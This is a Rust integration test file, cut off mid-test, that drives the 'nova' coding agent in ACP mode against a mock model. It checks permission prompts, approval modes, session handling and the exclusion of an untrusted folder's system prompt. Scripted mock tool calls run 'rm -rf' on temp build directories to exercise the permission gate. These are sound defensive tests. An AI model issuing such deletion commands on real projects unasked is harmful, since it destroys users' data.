//! `nova --mode acp` end to end: a real nova process over pipes, driven by the client side of
//! the official `agent-client-protocol` crate (nobody in this project wrote it), against the
//! mock model.

use crate::support::mock_llm::{Gate, MockLlm, Reply};
use crate::support::nova_proc::openai_models;
use agent_client_protocol::schema::ProtocolVersion;
use agent_client_protocol::v1::ConnectionTo;
use agent_client_protocol::v1::schema as acp;
use agent_client_protocol::{Agent, ByteStreams, Client, ErrorCode};
use serde_json::{Value, json};
use std::collections::{HashMap, VecDeque};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;
use tempfile::TempDir;
use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
use tokio::process::{Child, Command};
use tokio_util::compat::{TokioAsyncReadCompatExt, TokioAsyncWriteCompatExt};

const WAIT: Duration = Duration::from_secs(20);

/// A temp agent dir (models.json for the mock, two models), cwd and home.
pub(super) struct Dirs {
    pub(super) agent: TempDir,
    pub(super) cwd: TempDir,
    home: TempDir,
}

impl Dirs {
    pub(super) fn new(mock: &MockLlm) -> Dirs {
        let dirs = Dirs {
            agent: tempfile::tempdir().unwrap(),
            cwd: tempfile::tempdir().unwrap(),
            home: tempfile::tempdir().unwrap(),
        };
        let mut models = openai_models(mock);
        let mut second = models["providers"]["mock-openai"]["models"][0].clone();
        second["id"] = json!("other-model");
        second["name"] = json!("other-model");
        models["providers"]["mock-openai"]["models"]
            .as_array_mut()
            .unwrap()
            .push(second);
        std::fs::write(dirs.agent.path().join("models.json"), models.to_string()).unwrap();
        dirs
    }

    pub(super) fn cwd(&self) -> PathBuf {
        self.cwd.path().canonicalize().unwrap()
    }
}

pub(super) fn command(dirs: &Dirs) -> Command {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_nova"));
    cmd.args([
        "--mode",
        "acp",
        "--provider",
        "mock-openai",
        "--model",
        "test-model",
    ])
    .current_dir(dirs.cwd.path())
    .env("NOVA_AGENT_DIR", dirs.agent.path())
    .env("HOME", dirs.home.path())
    .env_remove("PI_CODING_AGENT_DIR")
    .env_remove("OLLAMA_HOST")
    .stdin(std::process::Stdio::piped())
    .stdout(std::process::Stdio::piped())
    .stderr(std::process::Stdio::piped())
    .kill_on_drop(true);
    for builtin in nova::config::builtin::CATALOG {
        for var in builtin.key_vars {
            cmd.env_remove(var);
        }
    }
    cmd
}

/// What the client saw: every `session/update`, and each permission question with the option
/// it chose (the next of `answers`, or a cancelled answer when there is none left).
#[derive(Default)]
pub(super) struct Seen {
    updates: Mutex<Vec<acp::SessionNotification>>,
    pub(super) asked: Mutex<Vec<acp::RequestPermissionRequest>>,
    pub(super) answers: Mutex<VecDeque<&'static str>>,
    /// Each form nova asked to fill (`elicitation/create`), answered with the next of
    /// `filled` as its one field, or declined when there is none left.
    pub(super) elicited: Mutex<Vec<acp::CreateElicitationRequest>>,
    pub(super) filled: Mutex<VecDeque<&'static str>>,
    /// The editor's buffers, for a client that offers its files.
    buffers: Mutex<HashMap<PathBuf, String>>,
    /// Whether `fs/write_text_file` also saves the file, by its path, as an editor does.
    saves_to_disk: AtomicBool,
    /// The paths `fs/write_text_file` was asked to write.
    saved: Mutex<Vec<PathBuf>>,
    /// The terminals nova asked for, by id, for a client that offers them.
    terminals: Mutex<HashMap<String, Terminal>>,
    created: Mutex<Vec<acp::CreateTerminalRequest>>,
    killed: Mutex<Vec<String>>,
    released: Mutex<Vec<String>>,
}

/// A command an editor runs for nova: really started, as an editor starts it (its own
/// environment plus the requested variables, from a thread that ends once it has spawned it),
/// its output kept.
struct Terminal {
    pid: u32,
    output: Arc<Mutex<Vec<u8>>>,
    exit: tokio::sync::watch::Receiver<Option<acp::TerminalExitStatus>>,
}

impl Terminal {
    fn spawn(req: &acp::CreateTerminalRequest) -> Terminal {
        let mut cmd = Command::new(&req.command);
        cmd.args(&req.args)
            .env("EDITOR_ONLY", "the editor's own variable")
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped());
        for var in &req.env {
            cmd.env(&var.name, &var.value);
        }
        if let Some(cwd) = &req.cwd {
            cmd.current_dir(cwd);
        }
        // From a short-lived thread, as editors often spawn: what it starts must not die with
        // the thread.
        let runtime = tokio::runtime::Handle::current();
        let mut child = std::thread::spawn(move || {
            let _entered = runtime.enter();
            cmd.spawn()
        })
        .join()
        .unwrap()
        .unwrap();
        let output: Arc<Mutex<Vec<u8>>> = Arc::default();
        let readers = [
            Box::new(child.stdout.take().unwrap()) as Box<dyn tokio::io::AsyncRead + Unpin + Send>,
            Box::new(child.stderr.take().unwrap()),
        ];
        for mut reader in readers {
            let output = output.clone();
            tokio::spawn(async move {
                let mut buf = [0u8; 4096];
                while let Ok(n) = tokio::io::AsyncReadExt::read(&mut reader, &mut buf).await {
                    if n == 0 {
                        break;
                    }
                    output.lock().unwrap().extend_from_slice(&buf[..n]);
                }
            });
        }
        let pid = child.id().unwrap();
        let (tx, exit) = tokio::sync::watch::channel(None);
        tokio::spawn(async move {
            let status = child.wait().await.unwrap();
            let mut exit = acp::TerminalExitStatus::new();
            if let Some(code) = status.code() {
                exit = exit.exit_code(code as u32);
            }
            if let Some(sig) = std::os::unix::process::ExitStatusExt::signal(&status) {
                let name = nix::sys::signal::Signal::try_from(sig).unwrap();
                exit = exit.signal(name.as_str().to_owned());
            }
            let _ = tx.send(Some(exit));
        });
        Terminal { pid, output, exit }
    }
}

impl Seen {
    pub(super) fn updates(&self, session: &acp::SessionId) -> Vec<acp::SessionUpdate> {
        self.updates
            .lock()
            .unwrap()
            .iter()
            .filter(|n| &n.session_id == session)
            .map(|n| n.update.clone())
            .collect()
    }

    pub(super) async fn wait_for(
        &self,
        session: &acp::SessionId,
        what: &str,
        pred: impl Fn(&acp::SessionUpdate) -> bool,
    ) {
        let deadline = tokio::time::Instant::now() + WAIT;
        while !self.updates(session).iter().any(&pred) {
            assert!(
                tokio::time::Instant::now() < deadline,
                "no {what} among {:#?}",
                self.updates(session)
            );
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
    }
}

/// A nova process and the client connection driving it.
pub(super) struct Session {
    pub(super) cx: ConnectionTo<Agent>,
    pub(super) seen: Arc<Seen>,
    child: Child,
    stop: Option<tokio::sync::oneshot::Sender<()>>,
}

impl Session {
    async fn start(dirs: &Dirs) -> Session {
        Session::start_with(dirs, acp::ClientCapabilities::new()).await
    }

    async fn start_with(dirs: &Dirs, capabilities: acp::ClientCapabilities) -> Session {
        Session::start_command(command(dirs), capabilities).await
    }

    pub(super) async fn start_command(
        mut command: Command,
        capabilities: acp::ClientCapabilities,
    ) -> Session {
        let mut child = command.spawn().unwrap();
        let stdin = child.stdin.take().unwrap();
        let stdout = child.stdout.take().unwrap();
        let seen = Arc::new(Seen::default());
        let (cx_tx, cx_rx) = tokio::sync::oneshot::channel();
        let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
        let (on_update, on_ask) = (seen.clone(), seen.clone());
        let (on_read, on_write) = (seen.clone(), seen.clone());
        let (on_create, on_wait, on_output) = (seen.clone(), seen.clone(), seen.clone());
        let (on_kill, on_release) = (seen.clone(), seen.clone());
        let on_elicit = seen.clone();
        tokio::spawn(async move {
            let transport = ByteStreams::new(stdin.compat_write(), stdout.compat());
            let _ = Client
                .v1()
                .on_receive_notification(
                    async move |n: acp::SessionNotification, _cx| {
                        on_update.updates.lock().unwrap().push(n);
                        Ok(())
                    },
                    agent_client_protocol::on_receive_notification!(),
                )
                .on_receive_request(
                    async move |req: acp::RequestPermissionRequest, responder, _cx| {
                        on_ask.asked.lock().unwrap().push(req);
                        let outcome = match on_ask.answers.lock().unwrap().pop_front() {
                            Some(id) => acp::RequestPermissionOutcome::Selected(
                                acp::SelectedPermissionOutcome::new(id),
                            ),
                            None => acp::RequestPermissionOutcome::Cancelled,
                        };
                        responder.respond(acp::RequestPermissionResponse::new(outcome))
                    },
                    agent_client_protocol::on_receive_request!(),
                )
                .on_receive_request(
                    async move |req: acp::ReadTextFileRequest, responder, _cx| {
                        let text = on_read.buffers.lock().unwrap().get(&req.path).cloned();
                        match text {
                            Some(t) => responder.respond(acp::ReadTextFileResponse::new(t)),
                            None => responder
                                .respond_with_error(acp::Error::resource_not_found(None).into()),
                        }
                    },
                    agent_client_protocol::on_receive_request!(),
                )
                .on_receive_request(
                    async move |req: acp::WriteTextFileRequest, responder, _cx| {
                        on_write.saved.lock().unwrap().push(req.path.clone());
                        if on_write.saves_to_disk.load(Ordering::SeqCst) {
                            // Following a symlink there, as saving a file does.
                            std::fs::write(&req.path, &req.content).unwrap();
                        }
                        on_write
                            .buffers
                            .lock()
                            .unwrap()
                            .insert(req.path, req.content);
                        responder.respond(acp::WriteTextFileResponse::new())
                    },
                    agent_client_protocol::on_receive_request!(),
                )
                .on_receive_request(
                    async move |req: acp::CreateTerminalRequest, responder, _cx| {
                        let terminal = Terminal::spawn(&req);
                        let id = format!("term-{}", terminal.pid);
                        on_create
                            .terminals
                            .lock()
                            .unwrap()
                            .insert(id.clone(), terminal);
                        on_create.created.lock().unwrap().push(req);
                        responder.respond(acp::CreateTerminalResponse::new(id))
                    },
                    agent_client_protocol::on_receive_request!(),
                )
                .on_receive_request(
                    async move |req: acp::WaitForTerminalExitRequest, responder, _cx| {
                        let id = req.terminal_id.0.to_string();
                        let exit = on_wait.terminals.lock().unwrap()[&id].exit.clone();
                        // Answered when it exits; the connection reads on meanwhile.
                        tokio::spawn(async move {
                            let mut exit = exit;
                            let status = exit.wait_for(Option::is_some).await.unwrap().clone();
                            let _ = responder
                                .respond(acp::WaitForTerminalExitResponse::new(status.unwrap()));
                        });
                        Ok(())
                    },
                    agent_client_protocol::on_receive_request!(),
                )
                .on_receive_request(
                    async move |req: acp::TerminalOutputRequest, responder, _cx| {
                        let id = req.terminal_id.0.to_string();
                        let terminals = on_output.terminals.lock().unwrap();
                        let terminal = &terminals[&id];
                        let text =
                            String::from_utf8_lossy(&terminal.output.lock().unwrap()).into_owned();
                        let exit = terminal.exit.borrow().clone();
                        responder.respond(
                            acp::TerminalOutputResponse::new(text, false).exit_status(exit),
                        )
                    },
                    agent_client_protocol::on_receive_request!(),
                )
                .on_receive_request(
                    async move |req: acp::KillTerminalRequest, responder, _cx| {
                        let id = req.terminal_id.0.to_string();
                        let pid = on_kill.terminals.lock().unwrap()[&id].pid;
                        // As abruptly as an editor may: the launcher gets no chance to clean up.
                        let _ = nix::sys::signal::kill(
                            nix::unistd::Pid::from_raw(pid as i32),
                            nix::sys::signal::Signal::SIGKILL,
                        );
                        on_kill.killed.lock().unwrap().push(id);
                        responder.respond(acp::KillTerminalResponse::new())
                    },
                    agent_client_protocol::on_receive_request!(),
                )
                .on_receive_request(
                    async move |req: acp::ReleaseTerminalRequest, responder, _cx| {
                        on_release
                            .released
                            .lock()
                            .unwrap()
                            .push(req.terminal_id.0.to_string());
                        responder.respond(acp::ReleaseTerminalResponse::new())
                    },
                    agent_client_protocol::on_receive_request!(),
                )
                .on_receive_request(
                    async move |req: acp::CreateElicitationRequest, responder, _cx| {
                        on_elicit.elicited.lock().unwrap().push(req.clone());
                        let action = match on_elicit.filled.lock().unwrap().pop_front() {
                            Some(text) => {
                                let acp::ElicitationMode::Form(form) = &req.mode else {
                                    panic!("nova asked for a form: {req:?}")
                                };
                                let field = form.requested_schema.properties.keys().next();
                                let content = std::collections::BTreeMap::from([(
                                    field.unwrap().clone(),
                                    acp::ElicitationContentValue::from(text),
                                )]);
                                acp::ElicitationAction::Accept(
                                    acp::ElicitationAcceptAction::new().content(content),
                                )
                            }
                            None => acp::ElicitationAction::Decline,
                        };
                        responder.respond(acp::CreateElicitationResponse::new(action))
                    },
                    agent_client_protocol::on_receive_request!(),
                )
                .connect_with(transport, async move |cx: ConnectionTo<Agent>| {
                    let _ = cx_tx.send(cx);
                    let _ = stopped.await;
                    Ok(())
                })
                .await;
        });
        let cx = cx_rx.await.unwrap();
        let session = Session {
            cx,
            seen,
            child,
            stop: Some(stop),
        };
        let init = session
            .cx
            .send_request(
                acp::InitializeRequest::new(ProtocolVersion::V1).client_capabilities(capabilities),
            )
            .block_task()
            .await
            .unwrap();
        assert_eq!(init.protocol_version, ProtocolVersion::V1);
        session
    }

    pub(super) async fn new_session(&self, cwd: &Path) -> acp::NewSessionResponse {
        self.cx
            .send_request(acp::NewSessionRequest::new(cwd))
            .block_task()
            .await
            .unwrap()
    }

    pub(super) async fn prompt(
        &self,
        session: &acp::SessionId,
        text: &str,
    ) -> Result<acp::PromptResponse, agent_client_protocol::Error> {
        let req = acp::PromptRequest::new(session.clone(), vec![text.into()]);
        tokio::time::timeout(WAIT, self.cx.send_request(req).block_task())
            .await
            .expect("the prompt was not answered")
    }

    pub(super) async fn end(mut self) {
        if let Some(stop) = self.stop.take() {
            let _ = stop.send(());
        }
        let _ = tokio::time::timeout(WAIT, self.child.wait()).await;
    }
}

pub(super) fn text_of(chunks: &[acp::SessionUpdate], thought: bool) -> String {
    chunks
        .iter()
        .filter_map(|u| match (u, thought) {
            (acp::SessionUpdate::AgentMessageChunk(c), false)
            | (acp::SessionUpdate::AgentThoughtChunk(c), true) => match &c.content {
                acp::ContentBlock::Text(t) => Some(t.text.clone()),
                _ => None,
            },
            _ => None,
        })
        .collect()
}

fn statuses(updates: &[acp::SessionUpdate], id: &str) -> Vec<acp::ToolCallStatus> {
    updates
        .iter()
        .filter_map(|u| match u {
            acp::SessionUpdate::ToolCall(c) if &*c.tool_call_id.0 == id => Some(c.status),
            acp::SessionUpdate::ToolCallUpdate(c) if &*c.tool_call_id.0 == id => c.fields.status,
            _ => None,
        })
        .collect()
}

#[tokio::test(flavor = "current_thread")]
async fn a_prompt_streams_thoughts_text_and_tool_calls_and_ends_its_turn() {
    let mock = MockLlm::start();
    mock.push(Reply::new().thinking("look at the notes").tool_call(
        "c1",
        "read",
        json!({"path": "notes.txt"}),
    ));
    mock.push(Reply::text("The notes say hello.").text_chunks(4));
    let dirs = Dirs::new(&mock);
    std::fs::write(dirs.cwd.path().join("notes.txt"), "hello\n").unwrap();
    let nova = Session::start(&dirs).await;
    let cwd = dirs.cwd();
    let created = nova.new_session(&cwd).await;
    let id = created.session_id;
    let options = created.config_options.unwrap();
    let model = options.iter().find(|o| &*o.id.0 == "model").unwrap();
    assert_eq!(
        model.category,
        Some(acp::SessionConfigOptionCategory::Model)
    );

    let answer = nova.prompt(&id, "what do the notes say?").await.unwrap();
    assert_eq!(answer.stop_reason, acp::StopReason::EndTurn);
    let updates = nova.seen.updates(&id);
    assert_eq!(text_of(&updates, true), "look at the notes");
    assert_eq!(text_of(&updates, false), "The notes say hello.");
    assert_eq!(
        statuses(&updates, "c1"),
        [
            acp::ToolCallStatus::Pending,
            acp::ToolCallStatus::InProgress,
            acp::ToolCallStatus::Completed
        ]
    );
    let started = updates
        .iter()
        .find_map(|u| match u {
            acp::SessionUpdate::ToolCallUpdate(c)
                if c.fields.status == Some(acp::ToolCallStatus::InProgress) =>
            {
                Some(c.fields.clone())
            }
            _ => None,
        })
        .unwrap();
    assert_eq!(started.kind, Some(acp::ToolKind::Read));
    assert_eq!(
        started.locations.unwrap()[0].path,
        cwd.join("notes.txt"),
        "locations are absolute"
    );
    assert!(
        updates.iter().any(
            |u| matches!(u, acp::SessionUpdate::UsageUpdate(u) if u.size == 128000 && u.used > 0)
        ),
        "{updates:#?}"
    );
    assert!(
        updates
            .iter()
            .any(|u| matches!(u, acp::SessionUpdate::AvailableCommandsUpdate(_)))
    );
    nova.end().await;
}

#[tokio::test(flavor = "current_thread")]
async fn the_gate_asks_the_editor_and_follows_its_answers() {
    let mock = MockLlm::start();
    mock.push(Reply::new().tool_call(
        "c1",
        "bash",
        json!({"command": "rm -rf build && echo gone"}),
    ));
    mock.push(Reply::text("cleaned"));
    mock.push(Reply::new().tool_call(
        "c2",
        "bash",
        json!({"command": "rm -rf build2 && echo gone"}),
    ));
    mock.push(Reply::text("refused"));
    let dirs = Dirs::new(&mock);
    std::fs::create_dir_all(dirs.cwd.path().join("build")).unwrap();
    std::fs::create_dir_all(dirs.cwd.path().join("build2")).unwrap();
    let nova = Session::start(&dirs).await;
    let id = nova.new_session(&dirs.cwd()).await.session_id;
    nova.seen
        .answers
        .lock()
        .unwrap()
        .extend(["allow_once", "reject_once"]);

    let answer = nova.prompt(&id, "clean up").await.unwrap();
    assert_eq!(answer.stop_reason, acp::StopReason::EndTurn);
    assert!(
        !dirs.cwd.path().join("build").exists(),
        "allowed, so it ran"
    );
    {
        let asked = nova.seen.asked.lock().unwrap();
        assert_eq!(asked.len(), 1);
        assert_eq!(&*asked[0].tool_call.tool_call_id.0, "c1");
        let kinds: Vec<_> = asked[0].options.iter().map(|o| o.kind).collect();
        assert_eq!(
            kinds,
            [
                acp::PermissionOptionKind::AllowOnce,
                acp::PermissionOptionKind::AllowAlways,
                acp::PermissionOptionKind::RejectOnce,
                acp::PermissionOptionKind::RejectAlways
            ]
        );
    }

    let answer = nova.prompt(&id, "clean the other").await.unwrap();
    assert_eq!(answer.stop_reason, acp::StopReason::EndTurn);
    assert!(
        dirs.cwd.path().join("build2").exists(),
        "rejected, so it did not run"
    );
    let updates = nova.seen.updates(&id);
    assert_eq!(
        statuses(&updates, "c2").last(),
        Some(&acp::ToolCallStatus::Failed)
    );
    let requests = mock.chat_requests();
    let last = requests.last().unwrap().body.to_string();
    assert!(last.contains("denied permission"), "{last}");
    nova.end().await;
}

#[tokio::test(flavor = "current_thread")]
async fn cancel_ends_the_turn_mid_stream_as_cancelled() {
    let mock = MockLlm::start();
    let gate = Gate::new();
    mock.push(
        Reply::text("a long answer")
            .text_chunks(10)
            .gate_after(2, &gate),
    );
    mock.push(Reply::text("next"));
    let dirs = Dirs::new(&mock);
    let nova = Session::start(&dirs).await;
    let id = nova.new_session(&dirs.cwd()).await.session_id;
    let req = acp::PromptRequest::new(id.clone(), vec!["talk".into()]);
    let pending = nova.cx.send_request(req).block_task();
    let (answer, ()) = tokio::join!(pending, async {
        nova.seen
            .wait_for(&id, "a first chunk", |u| {
                matches!(u, acp::SessionUpdate::AgentMessageChunk(_))
            })
            .await;
        nova.cx
            .send_notification(acp::CancelNotification::new(id.clone()))
            .unwrap();
    });
    gate.open();
    assert_eq!(answer.unwrap().stop_reason, acp::StopReason::Cancelled);
    // The session takes the next prompt as usual.
    let answer = nova.prompt(&id, "again").await.unwrap();
    assert_eq!(answer.stop_reason, acp::StopReason::EndTurn);
    nova.end().await;
}

#[tokio::test(flavor = "current_thread")]
async fn a_stored_session_is_listed_and_loaded_with_its_history_replayed() {
    let mock = MockLlm::start();
    mock.push(Reply::new().tool_call("c1", "read", json!({"path": "a.txt"})));
    mock.push(Reply::text("It says A."));
    mock.push(Reply::text("still here"));
    let dirs = Dirs::new(&mock);
    std::fs::write(dirs.cwd.path().join("a.txt"), "A\n").unwrap();
    let cwd = dirs.cwd();
    let first = Session::start(&dirs).await;
    let id = first.new_session(&cwd).await.session_id;
    first.prompt(&id, "read a.txt").await.unwrap();
    first.end().await;

    let second = Session::start(&dirs).await;
    let listed = second
        .cx
        .send_request(acp::ListSessionsRequest::new().cwd(cwd.clone()))
        .block_task()
        .await
        .unwrap();
    assert_eq!(listed.sessions.len(), 1, "{listed:?}");
    assert_eq!(listed.sessions[0].session_id, id);
    assert_eq!(listed.sessions[0].title.as_deref(), Some("read a.txt"));

    second
        .cx
        .send_request(acp::LoadSessionRequest::new(id.clone(), cwd.clone()))
        .block_task()
        .await
        .unwrap();
    let replayed = second.seen.updates(&id);
    let user: String = replayed
        .iter()
        .filter_map(|u| match u {
            acp::SessionUpdate::UserMessageChunk(acp::ContentChunk {
                content: acp::ContentBlock::Text(t),
                ..
            }) => Some(t.text.clone()),
            _ => None,
        })
        .collect();
    assert_eq!(user, "read a.txt");
    assert_eq!(text_of(&replayed, false), "It says A.");
    assert_eq!(
        statuses(&replayed, "c1"),
        [acp::ToolCallStatus::Pending, acp::ToolCallStatus::Completed]
    );
    // The loaded conversation goes on, with its history sent to the model.
    second.prompt(&id, "and now?").await.unwrap();
    let last = mock.chat_requests().last().unwrap().body.to_string();
    assert!(
        last.contains("It says A.") && last.contains("and now?"),
        "{last}"
    );
    second.end().await;
}

#[tokio::test(flavor = "current_thread")]
async fn switching_the_model_option_changes_the_next_request() {
    let mock = MockLlm::start();
    mock.push(Reply::text("one"));
    mock.push(Reply::text("two"));
    let dirs = Dirs::new(&mock);
    let nova = Session::start(&dirs).await;
    let id = nova.new_session(&dirs.cwd()).await.session_id;
    nova.prompt(&id, "first").await.unwrap();
    let changed = nova
        .cx
        .send_request(acp::SetSessionConfigOptionRequest::new(
            id.clone(),
            "model",
            "mock-openai/other-model",
        ))
        .block_task()
        .await
        .unwrap();
    let model = changed
        .config_options
        .iter()
        .find(|o| &*o.id.0 == "model")
        .unwrap();
    let acp::SessionConfigKind::Select(select) = &model.kind else {
        panic!("{model:?}")
    };
    assert_eq!(&*select.current_value.0, "mock-openai/other-model");
    nova.prompt(&id, "second").await.unwrap();
    let models: Vec<Value> = mock
        .chat_requests()
        .iter()
        .map(|r| r.body["model"].clone())
        .collect();
    assert_eq!(models, [json!("test-model"), json!("other-model")]);
    let bad = nova
        .cx
        .send_request(acp::SetSessionConfigOptionRequest::new(
            id.clone(),
            "model",
            "nope/none",
        ))
        .block_task()
        .await
        .unwrap_err();
    assert_eq!(bad.code, ErrorCode::INVALID_PARAMS);
    nova.end().await;
}

#[tokio::test(flavor = "current_thread")]
async fn two_sessions_on_two_cwds_share_one_process() {
    let mock = MockLlm::start();
    mock.push(Reply::text("for one"));
    mock.push(Reply::text("for two"));
    let dirs = Dirs::new(&mock);
    let other = tempfile::tempdir().unwrap();
    std::fs::write(dirs.cwd.path().join("AGENTS.md"), "project one").unwrap();
    std::fs::write(other.path().join("AGENTS.md"), "project two").unwrap();
    let nova = Session::start(&dirs).await;
    let one = nova.new_session(&dirs.cwd()).await.session_id;
    let two = nova
        .new_session(&other.path().canonicalize().unwrap())
        .await
        .session_id;
    assert_ne!(one, two);
    nova.prompt(&one, "hi one").await.unwrap();
    nova.prompt(&two, "hi two").await.unwrap();
    assert_eq!(text_of(&nova.seen.updates(&one), false), "for one");
    assert_eq!(text_of(&nova.seen.updates(&two), false), "for two");
    let bodies: Vec<String> = mock
        .chat_requests()
        .iter()
        .map(|r| r.body.to_string())
        .collect();
    assert!(bodies[0].contains("project one") && !bodies[0].contains("project two"));
    assert!(bodies[1].contains("project two") && !bodies[1].contains("project one"));
    nova.end().await;
}

/// Issue 30 item 4: an editor passes its configured flags to every folder it opens, so
/// `--approve` trusts only the folder nova was started in; another folder's own system prompt
/// (a file only a trusted project may use) stays out.
#[tokio::test(flavor = "current_thread")]
async fn approve_trusts_the_start_folder_and_no_other_one() {
    let mock = MockLlm::start();
    mock.push(Reply::text("for one"));
    mock.push(Reply::text("for two"));
    let dirs = Dirs::new(&mock);
    let other = tempfile::tempdir().unwrap();
    for (dir, text) in [
        (dirs.cwd.path(), "START PROMPT"),
        (other.path(), "OTHER PROMPT"),
    ] {
        std::fs::create_dir_all(dir.join(".nova")).unwrap();
        std::fs::write(dir.join(".nova/SYSTEM.md"), text).unwrap();
    }
    let mut cmd = command(&dirs);
    cmd.arg("--approve");
    let nova = Session::start_command(cmd, acp::ClientCapabilities::new()).await;
    let one = nova.new_session(&dirs.cwd()).await.session_id;
    let two = nova
        .new_session(&other.path().canonicalize().unwrap())
        .await
        .session_id;
    nova.prompt(&one, "hi one").await.unwrap();
    nova.prompt(&two, "hi two").await.unwrap();
    let bodies: Vec<String> = mock
        .chat_requests()
        .iter()
        .map(|r| r.body.to_string())
        .collect();
    assert!(bodies[0].contains("START PROMPT"), "{}", bodies[0]);
    assert!(!bodies[1].contains("OTHER PROMPT"), "{}", bodies[1]);
    nova.end().await;
}

#[tokio::test(flavor = "current_thread")]
async fn bad_input_gets_json_rpc_errors_and_the_process_lives_on() {
    let mock = MockLlm::start();
    let dirs = Dirs::new(&mock);
    let mut child = command(&dirs).spawn().unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    let mut exchange = async |line: &str| -> Value {
        stdin
            .write_all(format!("{line}\n").as_bytes())
            .await
            .unwrap();
        let reply = tokio::time::timeout(WAIT, lines.next_line())
            .await
            .unwrap()
            .unwrap()
            .unwrap();
        serde_json::from_str(&reply).unwrap()
    };
    let parse = exchange("this is not json").await;
    assert_eq!(parse["error"]["code"], -32700, "{parse}");
    let bad_params = exchange(
        r#"{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"x"}}"#,
    )
    .await;
    assert_eq!(bad_params["id"], 1);
    assert_eq!(bad_params["error"]["code"], -32602, "{bad_params}");
    let init = exchange(
        r#"{"jsonrpc":"2.0","id":2,"method":"initialize","params":{"protocolVersion":1}}"#,
    )
    .await;
    assert_eq!(init["id"], 2);
    assert_eq!(init["result"]["protocolVersion"], 1, "{init}");
    assert_eq!(init["result"]["agentCapabilities"]["loadSession"], true);
    assert_eq!(init["result"]["authMethods"], json!([]));
    let unknown =
        exchange(r#"{"jsonrpc":"2.0","id":3,"method":"no/such_method","params":{}}"#).await;
    assert_eq!(unknown["id"], 3);
    assert_eq!(unknown["error"]["code"], -32601, "{unknown}");
    let ghost = exchange(
        r#"{"jsonrpc":"2.0","id":4,"method":"session/prompt","params":{"sessionId":"ghost-1","prompt":[{"type":"text","text":"hi"}]}}"#,
    )
    .await;
    assert_eq!(ghost["id"], 4);
    assert!(
        ghost["error"]["message"]
            .as_str()
            .unwrap()
            .contains("ghost-1"),
        "{ghost}"
    );
    let relative = exchange(
        r#"{"jsonrpc":"2.0","id":5,"method":"session/new","params":{"cwd":"not/absolute","mcpServers":[]}}"#,
    )
    .await;
    assert_eq!(relative["error"]["code"], -32602, "{relative}");
    assert!(relative.to_string().contains("absolute"), "{relative}");
    drop(stdin);
    let status = tokio::time::timeout(WAIT, child.wait())
        .await
        .unwrap()
        .unwrap();
    assert!(status.success(), "{status}");
}

#[tokio::test(flavor = "current_thread")]
async fn approval_modes_refuse_changes_or_ask_before_each() {
    let mock = MockLlm::start();
    mock.push(Reply::new().tool_call("w1", "write", json!({"path": "a.txt", "content": "A"})));
    mock.push(Reply::text("could not"));
    mock.push(Reply::new().tool_call("w2", "write", json!({"path": "b.txt", "content": "B"})));
    mock.push(Reply::text("asked"));
    let dirs = Dirs::new(&mock);
    let nova = Session::start(&dirs).await;
    let created = nova.new_session(&dirs.cwd()).await;
    let id = created.session_id;
    let modes = created.modes.unwrap();
    assert_eq!(&*modes.current_mode_id.0, "auto");
    let ids: Vec<&str> = modes.available_modes.iter().map(|m| &*m.id.0).collect();
    assert_eq!(ids, ["ask", "auto", "read-only"]);

    nova.cx
        .send_request(acp::SetSessionModeRequest::new(id.clone(), "read-only"))
        .block_task()
        .await
        .unwrap();
    nova.seen
        .wait_for(&id, "current_mode_update", |u| {
            matches!(u, acp::SessionUpdate::CurrentModeUpdate(m) if &*m.current_mode_id.0 == "read-only")
        })
        .await;
    nova.prompt(&id, "write a").await.unwrap();
    assert!(!dirs.cwd.path().join("a.txt").exists());
    assert_eq!(
        statuses(&nova.seen.updates(&id), "w1").last(),
        Some(&acp::ToolCallStatus::Failed)
    );
    assert!(
        nova.seen.asked.lock().unwrap().is_empty(),
        "read-only refuses without asking"
    );

    let set = nova
        .cx
        .send_request(acp::SetSessionConfigOptionRequest::new(
            id.clone(),
            "mode",
            "ask",
        ))
        .block_task()
        .await
        .unwrap();
    let mode = set
        .config_options
        .iter()
        .find(|o| &*o.id.0 == "mode")
        .unwrap();
    assert_eq!(mode.category, Some(acp::SessionConfigOptionCategory::Mode));
    nova.seen.answers.lock().unwrap().push_back("reject_once");
    nova.prompt(&id, "write b").await.unwrap();
    assert_eq!(
        nova.seen.asked.lock().unwrap().len(),
        1,
        "ask mode asks even inside the sandbox"
    );
    assert!(!dirs.cwd.path().join("b.txt").exists());
    nova.end().await;
}

#[tokio::test(flavor = "current_thread")]
async fn reads_go_through_the_editors_buffers_and_nova_writes_the_changes_itself() {
    let mock = MockLlm::start();
    mock.push(Reply::new().tool_call("r1", "read", json!({"path": "old.txt"})));
    mock.push(Reply::text("read it"));
    mock.push(Reply::new().tool_call(
        "w1",
        "write",
        json!({"path": "new.txt", "content": "fresh"}),
    ));
    mock.push(Reply::text("written"));
    mock.push(Reply::new().tool_call(
        "e1",
        "edit",
        json!({"path": "old.txt", "edits": [{"oldText": "unsaved", "newText": "edited"}]}),
    ));
    mock.push(Reply::text("edited"));
    let dirs = Dirs::new(&mock);
    let cwd = dirs.cwd();
    std::fs::write(cwd.join("old.txt"), "saved on disk\n").unwrap();
    let files = acp::FileSystemCapabilities::new()
        .read_text_file(true)
        .write_text_file(true);
    let nova = Session::start_with(&dirs, acp::ClientCapabilities::new().fs(files)).await;
    nova.seen
        .buffers
        .lock()
        .unwrap()
        .insert(cwd.join("old.txt"), "an unsaved line\n".into());
    let id = nova.new_session(&cwd).await.session_id;

    nova.prompt(&id, "read old.txt").await.unwrap();
    let sent = mock.chat_requests().last().unwrap().body.to_string();
    assert!(
        sent.contains("an unsaved line") && !sent.contains("saved on disk"),
        "{sent}"
    );

    // Written by nova through its own walk, never handed to the editor by name (issue 30).
    nova.prompt(&id, "write new.txt").await.unwrap();
    assert_eq!(
        std::fs::read_to_string(cwd.join("new.txt")).unwrap(),
        "fresh"
    );

    nova.prompt(&id, "edit old.txt").await.unwrap();
    assert_eq!(
        std::fs::read_to_string(cwd.join("old.txt")).unwrap(),
        "an edited line\n",
        "the edit applies to the editor's unsaved text, and nova writes it"
    );
